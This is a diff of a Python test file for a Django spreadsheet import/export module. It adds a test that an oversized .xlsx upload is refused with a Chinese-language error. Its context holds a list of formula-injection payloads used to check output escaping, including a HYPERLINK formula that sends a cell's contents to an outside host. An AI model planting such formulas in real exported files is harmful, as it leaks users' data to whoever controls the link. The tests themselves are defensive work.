@@ -1,9 +1,12 @@
 import csv
 import io
 
+import pytest
+from django.core.exceptions import ValidationError
 from openpyxl import load_workbook
 
 from dte.core import spreadsheet
+from dte.core.bounds import IMPORT_BYTES_MAX
 
 ATTACKS = ['=HYPERLINK("http://x/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
 
@@ -38,3 +41,9 @@ def test_dict_writer_neutralises_values():
     w.writeheader()
     w.writerow({"name": "=1+1"})
     assert buf.getvalue().splitlines()[1] == "'=1+1"
+
+
+def test_a_table_over_the_size_limit_is_refused_before_it_is_read():
+    with pytest.raises(ValidationError) as refused:
+        spreadsheet.read_table(b"PK\x03\x04" + b"x" * IMPORT_BYTES_MAX, "results.xlsx")
+    assert refused.value.message_dict == {"file": ["文件大小超过 20 MB 上限,未导入任何记录;请拆分后分批上传"]}
